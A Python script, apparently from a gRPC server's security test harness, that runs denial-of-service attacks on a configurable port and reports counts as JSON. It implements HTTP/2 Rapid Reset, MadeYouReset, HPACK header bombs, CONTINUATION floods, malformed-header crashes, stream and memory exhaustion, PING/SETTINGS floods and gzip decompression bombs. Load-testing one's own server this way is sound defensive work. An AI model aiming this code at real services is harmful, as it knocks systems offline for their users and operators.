"""The attacks on the gRPC door, one process each so that the attacker's Python does not slow the partner who is measured beside it.
usage: grpc_attacks.py NAME PORT CERTIFICATES PARTNER SECONDS; prints what it did as JSON. Rule source: reference security 6."""

import gzip
import json
import os
import resource
import struct
import sys
import time

import http2
from http2 import (Connection, Closed, frame, indexed, integer, literal, message, request, CONTINUATION, DATA, END_HEADERS, END_STREAM,
                   HEADERS, PING, PRIORITY, REPEATED, RST_STREAM, SETTINGS, STATUS, SUBMIT, WINDOW_UPDATE)


def repeatedly(target, one, count):
    """Connects and runs one(connection) until it is closed or the time is over; counts closings and refused connections."""
    count.update(connections=0, closed=0, refused=0)
    while time.monotonic() < target.end:
        try:
            connection = target.connect()
        except Closed:
            count["refused"] += 1
            time.sleep(0.02)
            continue
        count["connections"] += 1
        try:
            while time.monotonic() < target.end:
                one(connection)
        except Closed:
            count["closed"] += 1
        connection.close()
    return count


def warmed(connection, named=False):
    """The headers of a call are in the dynamic table: a further call costs 15 bytes. `named`: one call is answered first."""
    if connection.next_stream == 1:
        if named:
            connection.answer(connection.call(STATUS, message(b"")), 5)
        stream = connection.stream()
        connection.send(frame(HEADERS, END_HEADERS, stream, request(STATUS, index=True)) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))


def rapid_reset(target):
    """CVE-2023-44487: streams opened and reset at once, 15,000 a second."""
    count = {"streams": 0}
    began = time.monotonic()

    def one(connection):
        warmed(connection, target.named)
        out = bytearray()
        for _ in range(150):
            stream = connection.stream()
            out += frame(HEADERS, END_HEADERS, stream, REPEATED) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
        connection.send(bytes(out))
        connection.skip()
        count["streams"] += 150
        ahead = count["streams"] / target.rate - (time.monotonic() - began)
        if ahead > 0:
            time.sleep(ahead)
    return repeatedly(target, one, count)


def provoked_resets(target):
    """MadeYouReset (CVE-2025-8671): frames that make the server reset the streams itself, so that they never count as open."""
    count = {"streams": 0}
    kinds = [
        lambda n: frame(WINDOW_UPDATE, 0, n, b"\0\0\0\0"),
        lambda n: frame(WINDOW_UPDATE, 0, n, b"\x7f\xff\xff\xff") * 2,
        lambda n: frame(DATA, END_STREAM, n, message(b"")) + frame(DATA, 0, n, b"x"),
        lambda n: frame(PRIORITY, 0, n, struct.pack(">IB", n, 1)),
        lambda n: frame(DATA, END_STREAM, n, message(b"")) + frame(HEADERS, END_HEADERS, n, REPEATED),
        lambda n: frame(DATA, 0, n, message(b"", 0, 0x7FFFFFFF)),
    ]
    turn = [0]

    def one(connection):
        warmed(connection)
        kind = kinds[turn[0] // 20 % len(kinds)]
        turn[0] += 1
        out = bytearray()
        for _ in range(20):
            stream = connection.stream()
            out += frame(HEADERS, END_HEADERS, stream, REPEATED) + kind(stream)
        count["streams"] += 20
        connection.send(bytes(out))
        connection.skip()
    return repeatedly(target, one, count)


def header_bomb(target):
    """CVE-2023-33953: a header of 4 KB in the dynamic table, named 1,000 times by each block of 1 KB."""
    count = {"blocks": 0}

    def one(connection):
        if connection.next_stream == 1:
            connection.send(frame(HEADERS, END_HEADERS, connection.stream(), request(STATUS) + literal("x", b"v" * 3900, index=True)))
        connection.send(frame(HEADERS, END_HEADERS, connection.stream(), request(STATUS) + indexed(62) * 1000))
        connection.skip()
        count["blocks"] += 1
    return repeatedly(target, one, count)


def header_flood(target):
    """CVE-2023-33953 and the CONTINUATION flood: a header block that never ends."""
    count = {"bytes": 0}
    part = b"".join(literal(f"h{n}", b"v" * 1000, index=True) for n in range(15))

    def one(connection):
        connection.send(frame(HEADERS, 0, connection.stream(), request(STATUS)))
        for _ in range(1000):
            if time.monotonic() > target.end:
                return
            connection.send(frame(CONTINUATION, 0, connection.next_stream - 2, part))
            connection.skip()
            count["bytes"] += len(part)
    return repeatedly(target, one, count)


def table_resizing(target):
    """CVE-2023-33953, its processor half: the dynamic table is resized and filled again, thousands of times a block."""
    count = {"resizings": 0}
    block = (integer(0, 5, 0x20) + integer(4096, 5, 0x20)) + literal("x", b"v" * 3900, index=True)

    def one(connection):
        for _ in range(4):
            connection.send(frame(HEADERS, END_HEADERS, connection.stream(), block + request(STATUS)))
            count["resizings"] += 2
        connection.skip()
    return repeatedly(target, one, count)


def bad_headers(target):
    """CVE-2023-1428: the published headers that aborted a gRPC server, and their like."""
    count = {"calls": 0}
    odd = [dict(extra=[("te", "x")]), dict(scheme=literal(":scheme", "x")), dict(extra=[("grpclb_client_stats", "x")]),
           dict(scheme=literal(":scheme", "")), dict(extra=[(":status", "200")]), dict(extra=[("grpc-timeout", "9" * 20 + "x")]),
           dict(extra=[("grpc-encoding", "\xff")]), dict(extra=[("content-type", "x")]), dict(extra=[("UPPER", "x")]),
           dict(extra=[("", "")]), dict(extra=[("connection", "close")]), dict(extra=[(":path", "/")]), dict(extra=[("a-bin", "*")]),
           dict(extra=[("grpc-status", "-1")]), dict(extra=[("lb-cost-bin", "x")]), dict(extra=[("grpc-previous-rpc-attempts", "-9")])]

    def one(connection):
        kwargs = odd[count["calls"] % len(odd)]
        extra = kwargs.get("extra", ())
        count["calls"] += 1
        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, connection.stream(),
                              request(STATUS, extra, scheme=kwargs.get("scheme", b"\x87"))))
        for _ in connection.frames(0.005):
            pass
    return repeatedly(target, one, count)


def streams(target):
    """As many calls open at once as the connection lets in; nothing is sent on them."""
    count = {"opened": 0}

    def one(connection):
        for _ in range(50):
            connection.send(frame(HEADERS, END_HEADERS, connection.stream(), request(http2.SUBMIT_MANY)))
            count["opened"] += 1
        connection.skip()
        if connection.next_stream > 2000:
            raise Closed
    return repeatedly(target, one, count)


def memory(target):
    """Large messages on many streams at once, each without its last byte."""
    count = {"bytes": 0}

    def one(connection):
        for _ in range(target.size):
            stream = connection.stream()
            connection.send(frame(HEADERS, END_HEADERS, stream, request(SUBMIT)) + frame(DATA, 0, stream, message(b"", announced=target.bytes)[:5]))
        open_streams = range(1, connection.next_stream, 2)
        windows = dict.fromkeys(open_streams, 65535 - 5)
        total = 65535 - 5 * len(windows)
        part = bytes(16384)
        while time.monotonic() < target.end:
            moved = False
            for stream in open_streams:
                size = min(16384, windows.get(stream, 0), total)
                if size > 0:
                    connection.send(frame(DATA, 0, stream, part[:size]))
                    windows[stream] -= size
                    total -= size
                    count["bytes"] += size
                    moved = True
            for kind, _, number, payload in connection.frames(0.0005 if moved else 0.02):
                if kind == WINDOW_UPDATE:
                    step = int.from_bytes(payload, "big")
                    if number == 0:
                        total += step
                    elif number in windows:
                        windows[number] += step
                elif kind == SETTINGS and payload:
                    for at in range(0, len(payload), 6):
                        key, value = struct.unpack(">HI", payload[at:at + 6])
                        if key == 4:
                            for stream in windows:
                                windows[stream] += value - 65535
                elif kind == RST_STREAM:
                    windows.pop(number, None)
    return repeatedly(target, one, count)


def metadata(target):
    """Headers over 8 KiB."""
    count = {"calls": 0}

    def one(connection):
        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, connection.stream(), request(STATUS, [("x", "v" * 16000)])))
        count["calls"] += 1
        for _ in connection.frames(0.002):
            pass
    return repeatedly(target, one, count)


def pings(target):
    count = {"pings": 0}

    def one(connection):
        connection.send(frame(PING, 0, 0, b"12345678") * 100)
        count["pings"] += 100
        connection.skip()
    return repeatedly(target, one, count)


def settings(target):
    count = {"settings": 0}

    def one(connection):
        connection.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 100)
        count["settings"] += 100
        connection.skip()
    return repeatedly(target, one, count)


def bombs(target):
    """Messages of 10 KB that say to be gzip of 10 MB."""
    count = {"calls": 0}
    bomb = gzip.compress(bytes(10 << 20))

    def one(connection):
        stream = connection.stream()
        connection.send(frame(HEADERS, END_HEADERS, stream, request(SUBMIT, [("grpc-encoding", "gzip")])) +
                        frame(DATA, END_STREAM, stream, message(bomb, 1)))
        count["calls"] += 1
        connection.answer(stream, 1)
    return repeatedly(target, one, count)


def handshakes(target):
    """Connections without a certificate, as fast as they go."""
    target.partner = None
    return repeatedly(target, lambda connection: [connection.skip() for _ in range(100)], {})


def burn(target):
    """No attack: burns `rate` percent of one core, to tell an attack's effect from that of a busy machine."""
    while time.monotonic() < target.end:
        began = time.process_time()
        start = time.monotonic()
        while time.process_time() - began < 0.01 * target.rate / 100:
            pass
        time.sleep(max(0, 0.01 - (time.monotonic() - start)))
    return {}


class Target:
    def __init__(self, port, certificates, partner, seconds):
        self.port, self.certificates, self.partner = int(port), certificates, partner
        self.rate = float(os.environ.get("PUENTE_ATTACK_RATE", 15000))
        self.named = bool(os.environ.get("PUENTE_ATTACK_NAMED"))
        self.bytes = int(os.environ.get("PUENTE_ATTACK_BYTES", 10 << 20))
        self.size = int(os.environ.get("PUENTE_ATTACK_SIZE", 12))
        self.end = time.monotonic() + float(seconds)

    def connect(self):
        return Connection(self.port, self.certificates, self.partner)


if __name__ == "__main__":
    name, *rest = sys.argv[1:]
    began = time.monotonic()
    result = globals()[name](Target(*rest))
    usage = resource.getrusage(resource.RUSAGE_SELF)
    result.update(seconds=round(time.monotonic() - began, 2), cpu=round(usage.ru_utime + usage.ru_stime, 2))
    print(json.dumps(result))
